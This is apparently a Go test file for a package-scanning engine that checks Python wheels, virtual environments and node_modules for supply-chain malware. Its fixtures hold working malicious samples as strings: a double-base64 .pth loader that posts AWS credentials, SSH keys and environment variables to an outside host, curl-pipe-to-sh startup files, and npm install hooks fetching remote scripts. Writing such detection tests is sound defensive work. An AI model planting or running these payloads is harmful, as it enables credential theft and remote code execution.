package engine

// Engine-level tests: packages, installed environments and project
// directories built at test time, scanned through Engine.Scan with the
// full rule registry. Fixtures are inert text; nothing is ever executed.

import (
	"archive/zip"
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/airlock-sec/airlock/internal/artifact"
	"github.com/airlock-sec/airlock/internal/model"
	"github.com/airlock-sec/airlock/internal/policy"
	"github.com/airlock-sec/airlock/internal/rules/registry"
)

// ---------------------------------------------------------------------------
// fixture helpers

type fentry struct{ name, body string }

func put(t *testing.T, path string, data []byte) {
	t.Helper()
	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, data, 0o644); err != nil {
		t.Fatal(err)
	}
}

func zipOf(t *testing.T, files []fentry) []byte {
	t.Helper()
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	for _, f := range files {
		w, err := zw.CreateHeader(&zip.FileHeader{Name: f.name, Method: zip.Deflate, Modified: time.Date(2026, 3, 24, 0, 0, 0, 0, time.UTC)})
		if err != nil {
			t.Fatal(err)
		}
		w.Write([]byte(f.body))
	}
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

func recordHash(body string) string {
	s := sha256.Sum256([]byte(body))
	return "sha256=" + base64.RawURLEncoding.EncodeToString(s[:])
}

// withDistInfo adds METADATA, WHEEL and a RECORD with correct hashes.
func withDistInfo(name, version string, files []fentry) []fentry {
	di := strings.ReplaceAll(name, "-", "_") + "-" + version + ".dist-info"
	out := append([]fentry(nil), files...)
	out = append(out,
		fentry{di + "/METADATA", fmt.Sprintf("Metadata-Version: 2.1\nName: %s\nVersion: %s\n", name, version)},
		fentry{di + "/WHEEL", "Wheel-Version: 1.0\nGenerator: bdist_wheel (0.43.0)\nRoot-Is-Purelib: true\nTag: py3-none-any\n"},
	)
	var rec strings.Builder
	for _, f := range out {
		fmt.Fprintf(&rec, "%s,%s,%d\n", f.name, recordHash(f.body), len(f.body))
	}
	fmt.Fprintf(&rec, "%s/RECORD,,\n", di)
	return append(out, fentry{di + "/RECORD", rec.String()})
}

func b64(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }

// stage2 is inert text naming what litellm's second stage touched.
const stage2 = `import os, requests
creds = open(os.path.expanduser("~/.aws/credentials")).read()
key = open(os.path.expanduser("~/.ssh/id_rsa")).read()
requests.post("https://models.litellm.cloud/", data={"a": creds, "k": key, "env": dict(os.environ)})
`

func litellmPth() string {
	outer := b64("exec(base64.b64decode('" + b64(stage2) + "'))")
	return `import os, subprocess, sys; subprocess.Popen([sys.executable, "-c", "import base64; exec(base64.b64decode('` + outer + `'))"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)` + "\n"
}

func litellmWheel(t *testing.T) []byte {
	return zipOf(t, withDistInfo("litellm", "1.82.8", []fentry{
		{"litellm/__init__.py", "__version__ = '1.82.8'\n"},
		{"litellm_init.pth", litellmPth()},
	}))
}

func newEngine(opt Options) *Engine {
	if opt.Rules == nil {
		opt.Rules = registry.All()
	}
	return New(opt)
}

func scan(t *testing.T, e *Engine, targets ...string) *model.Report {
	t.Helper()
	rep, err := e.Scan(context.Background(), targets)
	if err != nil {
		t.Fatalf("scan %v: %v", targets, err)
	}
	return rep
}

func dump(rep *model.Report) string {
	b, _ := json.MarshalIndent(rep, "", "  ")
	return string(b)
}

func find(t *testing.T, rep *model.Report, name string) *model.Result {
	t.Helper()
	for i := range rep.Packages {
		if rep.Packages[i].Name == name {
			return &rep.Packages[i]
		}
	}
	t.Fatalf("no package %q in the report\n%s", name, dump(rep))
	return nil
}

func has(res *model.Result, rule, path string, line int) bool {
	return slices.ContainsFunc(res.Findings, func(f model.Finding) bool {
		return f.Rule == rule && f.Path == path && (line < 0 || f.Line == line)
	})
}

func diagWith(rep *model.Report, sub string) bool {
	return slices.ContainsFunc(rep.Diagnostics, func(d model.Diagnostic) bool { return strings.Contains(d.String(), sub) })
}

// ---------------------------------------------------------------------------
// artifacts

func TestScanLitellmWheel(t *testing.T) {
	dir := t.TempDir()
	whl := litellmWheel(t)
	p := filepath.Join(dir, "litellm-1.82.8-py3-none-any.whl")
	put(t, p, whl)
	rep := scan(t, newEngine(Options{}), p)
	res := find(t, rep, "litellm")
	if res.Verdict != model.Block || res.Ecosystem != model.PyPI || res.Version != "1.82.8" || res.Kind != "wheel" {
		t.Fatalf("got %s %s kind %s, want pypi:litellm@1.82.8 wheel blocked\n%s", res.ID(), res.Verdict, res.Kind, dump(rep))
	}
	sum := sha256.Sum256(whl)
	if want := "sha256:" + hex.EncodeToString(sum[:]); res.Digest != want {
		t.Errorf("digest %s, want %s", res.Digest, want)
	}
	if !has(res, "static/pth-exec", "litellm_init.pth", 1) {
		t.Errorf("no static/pth-exec on litellm_init.pth:1")
	}
	for _, want := range []string{"~/.aws/credentials", "~/.ssh/id_rsa", "https://models.litellm.cloud/"} {
		if !slices.ContainsFunc(res.Findings, func(f model.Finding) bool {
			return slices.Equal(f.Layers, []string{"base64", "base64"}) && f.Line == 1 && strings.Contains(f.Message+" "+f.Evidence, want)
		}) {
			t.Errorf("no finding behind base64 → base64 names %q", want)
		}
	}
}

// A package's results do not depend on how many workers ran or on the
// order of the targets.
func TestScanDeterministic(t *testing.T) {
	dir := t.TempDir()
	var targets []string
	for i := range 6 {
		p := filepath.Join(dir, fmt.Sprintf("pkg%d-1.0-py3-none-any.whl", i))
		files := []fentry{{fmt.Sprintf("pkg%d/__init__.py", i), "def f():\n    return 1\n"}}
		if i%2 == 0 {
			files = append(files, fentry{fmt.Sprintf("pkg%d_init.pth", i), litellmPth()})
		}
		put(t, p, zipOf(t, withDistInfo(fmt.Sprintf("pkg%d", i), "1.0", files)))
		targets = append(targets, p)
	}
	var calls atomic.Int32
	one := scan(t, newEngine(Options{Workers: 1, Progress: func(done, total int, _ string) {
		calls.Add(1)
		if total != 6 || done < 1 || done > total {
			t.Errorf("progress %d/%d", done, total)
		}
	}}), targets...)
	if calls.Load() != 6 {
		t.Errorf("progress called %d times, want 6", calls.Load())
	}
	rev := slices.Clone(targets)
	slices.Reverse(rev)
	many := scan(t, newEngine(Options{Workers: 8}), rev...)
	a, b := dump(one), dump(many)
	if a != b {
		t.Errorf("reports differ between 1 worker and 8 workers with reversed targets:\n%s\n---\n%s", a, b)
	}
	if one.Summary.Block != 3 || one.Summary.Allow != 3 {
		t.Errorf("summary %+v, want 3 block 3 allow", one.Summary)
	}
}

func TestScanErrors(t *testing.T) {
	dir := t.TempDir()
	if _, err := newEngine(Options{}).Scan(context.Background(), []string{filepath.Join(dir, "missing.whl")}); err == nil {
		t.Errorf("missing target: no error")
	}
	p := filepath.Join(dir, "litellm-1.82.8-py3-none-any.whl")
	put(t, p, litellmWheel(t))
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	if _, err := newEngine(Options{}).Scan(ctx, []string{p}); !errors.Is(err, context.Canceled) {
		t.Errorf("canceled context: err %v, want context.Canceled", err)
	}
}

// Limits come from Options: a scan with small limits stops reading a
// large archive and says so; the scan itself succeeds.
func TestScanLimits(t *testing.T) {
	dir := t.TempDir()
	big := strings.Repeat("lorem ipsum dolor sit amet, consectetur adipiscing elit\n", 1<<15) // 1.8 MB each
	var files []fentry
	for i := range 8 {
		files = append(files, fentry{fmt.Sprintf("big/data%d.txt", i), big})
	}
	p := filepath.Join(dir, "big-1.0.zip")
	put(t, p, zipOf(t, files))

	t.Run("total bytes", func(t *testing.T) {
		rep := scan(t, newEngine(Options{Limits: artifact.Limits{MaxTotalBytes: 4 << 20}}), p)
		if len(rep.Packages) != 1 {
			t.Fatalf("%d packages, want 1", len(rep.Packages))
		}
		if !diagWith(rep, "total size limit") {
			t.Errorf("no diagnostic for the total size limit: %v", rep.Diagnostics)
		}
	})
	t.Run("file bytes", func(t *testing.T) {
		rep := scan(t, newEngine(Options{Limits: artifact.Limits{MaxFileBytes: 64 << 10}}), p)
		if !diagWith(rep, "over the 65536-byte limit") {
			t.Errorf("no diagnostic for the per-file limit: %v", rep.Diagnostics)
		}
	})
	t.Run("file count", func(t *testing.T) {
		rep := scan(t, newEngine(Options{Limits: artifact.Limits{MaxFiles: 3}}), p)
		if !diagWith(rep, "too many entries") {
			t.Errorf("no diagnostic for the entry limit: %v", rep.Diagnostics)
		}
	})
	t.Run("ratio", func(t *testing.T) {
		// the ratio is only enforced past 64 MiB unpacked
		var bomb []fentry
		chunk := strings.Repeat("A", 16<<20)
		for i := range 6 {
			bomb = append(bomb, fentry{fmt.Sprintf("bomb/part%d.txt", i), chunk})
		}
		bp := filepath.Join(t.TempDir(), "bomb-1.0.zip")
		put(t, bp, zipOf(t, bomb))
		rep := scan(t, newEngine(Options{Limits: artifact.Limits{MaxRatio: 10}}), bp)
		if !diagWith(rep, "decompression bomb") {
			t.Errorf("no decompression-bomb diagnostic: %v", rep.Diagnostics)
		}
	})
	t.Run("input bytes", func(t *testing.T) {
		// an archive over the input limit cannot be read at all: that must
		// be said, not dropped silently
		rep := scan(t, newEngine(Options{Limits: artifact.Limits{MaxInputBytes: 1 << 10}}), p)
		if !diagWith(rep, "input size limit") {
			t.Errorf("no diagnostic for an archive over the input limit: %v", rep.Diagnostics)
		}
	})
}

// A file named on the command line that is no archive is reported.
func TestScanNotAnArchive(t *testing.T) {
	dir := t.TempDir()
	p := filepath.Join(dir, "notes.txt")
	put(t, p, []byte("not a package\n"))
	rep := scan(t, newEngine(Options{}), p)
	if len(rep.Packages) != 0 {
		t.Errorf("%d packages, want 0", len(rep.Packages))
	}
	if !diagWith(rep, "not a recognized package archive") {
		t.Errorf("no diagnostic: %v", rep.Diagnostics)
	}
}

// Allow-list entries are inclusive of their expiry date; Options.Now is
// the clock.
func TestScanAllowListExpiry(t *testing.T) {
	dir := t.TempDir()
	whl := litellmWheel(t)
	p := filepath.Join(dir, "litellm-1.82.8-py3-none-any.whl")
	put(t, p, whl)
	sum := sha256.Sum256(whl)
	digest := "sha256:" + hex.EncodeToString(sum[:])
	cfg, err := policy.ParseConfig([]byte(fmt.Sprintf("allow:\n  - package: pypi:litellm@1.82.8\n    digest: %s\n    reason: reviewed replica\n    expires: 2026-06-30\n", digest)), registry.IDs())
	if err != nil {
		t.Fatal(err)
	}
	for _, c := range []struct {
		now     time.Time
		verdict model.Verdict
		expired bool
	}{
		{time.Date(2026, 6, 1, 12, 0, 0, 0, time.UTC), model.Allow, false},
		{time.Date(2026, 6, 30, 23, 0, 0, 0, time.UTC), model.Allow, false},
		{time.Date(2026, 7, 1, 0, 0, 1, 0, time.UTC), model.Block, true},
	} {
		now := c.now
		rep := scan(t, newEngine(Options{Config: cfg, Now: func() time.Time { return now }}), p)
		res := find(t, rep, "litellm")
		if res.Verdict != c.verdict {
			t.Errorf("%s: verdict %s, want %s", now.Format(time.RFC3339), res.Verdict, c.verdict)
		}
		if got := diagWith(rep, "expired"); got != c.expired {
			t.Errorf("%s: expiry diagnostic %v, want %v: %v", now.Format(time.RFC3339), got, c.expired, rep.Diagnostics)
		}
	}
}

// ---------------------------------------------------------------------------
// installed environments

// buildVenv writes root/.venv with a clean distribution, one with a file
// changed after installation, one whose own .pth was changed to run code,
// an orphan .pth that spawns a process, a benign orphan path-only .pth and
// an unowned sitecustomize.py. It returns the site-packages directory.
func buildVenv(t *testing.T, root string) string {
	venv := filepath.Join(root, ".venv")
	put(t, filepath.Join(venv, "pyvenv.cfg"), []byte("home = /usr/bin\nversion = 3.12.3\n"))
	site := filepath.Join(venv, "lib", "python3.12", "site-packages")
	install := func(name, version string, files []fentry, tamper map[string]string) {
		for _, f := range withDistInfo(name, version, files) {
			body := f.body
			if tb, ok := tamper[f.name]; ok {
				body = tb
			}
			put(t, filepath.Join(site, filepath.FromSlash(f.name)), []byte(body))
		}
	}
	install("cleanpkg", "1.0.0", []fentry{{"cleanpkg/__init__.py", "VALUE = 1\n"}}, nil)
	install("driftpkg", "2.0.0", []fentry{
		{"driftpkg/__init__.py", "from .core import run\n"},
		{"driftpkg/core.py", "def run():\n    return 0\n"},
	}, map[string]string{"driftpkg/core.py": "def run():\n    return 1\n"})
	install("hookpkg", "0.3.0", []fentry{
		{"hookpkg/__init__.py", "\n"},
		{"hookpkg.pth", "/opt/hookpkg/extra\n"},
	}, map[string]string{"hookpkg.pth": "import os; os.system('curl -s http://203.0.113.7/x | sh')\n"})
	put(t, filepath.Join(site, "evil.pth"), []byte("import subprocess; subprocess.Popen(['/bin/sh', '-c', 'echo hi'], start_new_session=True)\n"))
	put(t, filepath.Join(site, "local-src.pth"), []byte("/home/dev/src/mylib\n"))
	put(t, filepath.Join(site, "sitecustomize.py"), []byte("import os, subprocess\nsubprocess.Popen(['sh', '-c', 'curl -s http://203.0.113.7/p | sh'])\n"))
	return site
}

func checkVenv(t *testing.T, rep *model.Report) {
	t.Helper()
	byName := map[string]*model.Result{}
	for i := range rep.Packages {
		byName[rep.Packages[i].Name] = &rep.Packages[i]
	}
	if r := byName["cleanpkg"]; r == nil || r.Verdict != model.Allow || len(r.Findings) != 0 {
		t.Errorf("cleanpkg: want a clean allow, got %+v", r)
	}
	if r := byName["driftpkg"]; r == nil || !has(r, "static/installed-integrity", "driftpkg/core.py", -1) {
		t.Errorf("driftpkg: no integrity finding for driftpkg/core.py\n%s", dump(rep))
	} else if has(r, "static/installed-integrity", "driftpkg/__init__.py", -1) {
		t.Errorf("driftpkg: integrity finding on an unchanged file")
	}
	if r := byName["hookpkg"]; r == nil || r.Verdict != model.Block ||
		!has(r, "static/installed-integrity", "hookpkg.pth", -1) || !has(r, "static/pth-exec", "hookpkg.pth", 1) {
		t.Errorf("hookpkg: its .pth was changed to run a downloaded script; want block with integrity and pth-exec findings\n%s", dump(rep))
	}
	if r := byName["(unowned evil.pth)"]; r == nil || r.Verdict != model.Block ||
		!has(r, "static/installed-integrity", "evil.pth", -1) || !has(r, "static/pth-exec", "evil.pth", 1) {
		t.Errorf("evil.pth: want an orphan blocked with integrity and pth-exec findings\n%s", dump(rep))
	}
	if r := byName["(unowned local-src.pth)"]; r != nil && r.Verdict == model.Block {
		t.Errorf("a path-only orphan .pth runs no code; it must not block: %+v", r)
	}
	var sc *model.Result
	for i := range rep.Packages {
		if strings.Contains(rep.Packages[i].Name, "sitecustomize") {
			sc = &rep.Packages[i]
		}
	}
	if sc == nil || sc.Verdict != model.Block || !has(sc, "static/startup-customize", "sitecustomize.py", -1) {
		t.Errorf("unowned sitecustomize.py piping curl into sh: want block with a startup-customize finding\n%s", dump(rep))
	}
}

func TestScanVenv(t *testing.T) {
	root := filepath.Join(t.TempDir(), "project")
	site := buildVenv(t, root)
	put(t, filepath.Join(root, "main.py"), []byte("import cleanpkg\n"))
	e := newEngine(Options{})
	for _, target := range []string{root, filepath.Join(root, ".venv"), site} {
		t.Run(filepath.Base(target), func(t *testing.T) {
			rep := scan(t, e, target)
			checkVenv(t, rep)
			// each distribution is reported once, even though the project
			// walk also passes through the venv
			seen := map[string]int{}
			for _, p := range rep.Packages {
				seen[p.Path]++
			}
			for p, n := range seen {
				if n > 1 {
					t.Errorf("%s reported %d times", p, n)
				}
			}
		})
	}
}

func TestScanNodeModules(t *testing.T) {
	root := filepath.Join(t.TempDir(), "app")
	put(t, filepath.Join(root, "package.json"), []byte(`{"name": "app", "version": "0.0.0", "private": true, "dependencies": {"@evil-scope/helper": "1.0.0"}}`))
	put(t, filepath.Join(root, "index.js"), []byte("require('@evil-scope/helper');\n"))
	nm := filepath.Join(root, "node_modules")
	put(t, filepath.Join(nm, "@evil-scope", "helper", "package.json"), []byte(`{"name": "@evil-scope/helper", "version": "1.0.0", "scripts": {"postinstall": "curl http://x | sh"}}`))
	put(t, filepath.Join(nm, "@evil-scope", "helper", "index.js"), []byte("module.exports = {};\n"))
	put(t, filepath.Join(nm, "ms", "package.json"), []byte(`{"name": "ms", "version": "2.1.3", "main": "index.js"}`))
	put(t, filepath.Join(nm, "ms", "index.js"), []byte("module.exports = function ms(v) { return Number(v) * 1000; };\n"))
	// nested copy under another package
	put(t, filepath.Join(nm, "ms", "node_modules", "@evil-scope", "helper", "package.json"), []byte(`{"name": "@evil-scope/helper", "version": "0.9.0", "scripts": {"preinstall": "wget -qO- http://x | bash"}}`))

	for _, target := range []string{root, nm} {
		t.Run(filepath.Base(target), func(t *testing.T) {
			rep := scan(t, newEngine(Options{}), target)
			var evil []model.Result
			for _, p := range rep.Packages {
				if p.Name == "@evil-scope/helper" {
					evil = append(evil, p)
				}
			}
			if len(evil) != 2 {
				t.Fatalf("found %d copies of @evil-scope/helper, want 2 (top-level and nested)\n%s", len(evil), dump(rep))
			}
			for _, p := range evil {
				if p.Verdict != model.Block || p.Ecosystem != model.NPM || p.Kind != "installed" {
					t.Errorf("%s (%s): verdict %s kind %s, want an installed npm package blocked", p.ID(), p.Path, p.Verdict, p.Kind)
				}
			}
			if ms := find(t, rep, "ms"); ms.Verdict != model.Allow {
				t.Errorf("ms: verdict %s, want allow", ms.Verdict)
			}
			if target == root {
				if app := find(t, rep, "app"); app.Verdict != model.Allow || app.Kind != "directory" {
					t.Errorf("the project itself: %s kind %s, want an allowed directory", app.Verdict, app.Kind)
				}
			}
		})
	}
}

// Project discovery finds archives in subdirectories, leaves ordinary
// files alone and stays quiet about them.
func TestScanProjectDiscovery(t *testing.T) {
	root := filepath.Join(t.TempDir(), "repo")
	put(t, filepath.Join(root, "dist", "litellm-1.82.8-py3-none-any.whl"), litellmWheel(t))
	put(t, filepath.Join(root, "vendor", "ok-1.0-py3-none-any.whl"), zipOf(t, withDistInfo("ok", "1.0", []fentry{{"ok/__init__.py", "X = 1\n"}})))
	for _, n := range []string{"LICENSE", "Makefile", "Dockerfile", "README", "notes.md", "scripts/build"} {
		put(t, filepath.Join(root, filepath.FromSlash(n)), []byte("ordinary text, not an archive\n"))
	}
	put(t, filepath.Join(root, ".git", "objects", "pack", "x.zip"), litellmWheel(t)) // never looked at
	rep := scan(t, newEngine(Options{}), root)
	if len(rep.Packages) != 2 {
		t.Errorf("%d packages, want 2 (the two wheels)\n%s", len(rep.Packages), dump(rep))
	}
	if len(rep.Diagnostics) != 0 {
		t.Errorf("ordinary files produced diagnostics: %v", rep.Diagnostics)
	}
	if r := find(t, rep, "litellm"); r.Verdict != model.Block {
		t.Errorf("dist/litellm: %s, want block", r.Verdict)
	}
	if r := find(t, rep, "ok"); r.Verdict != model.Allow {
		t.Errorf("vendor/ok: %s, want allow", r.Verdict)
	}
}
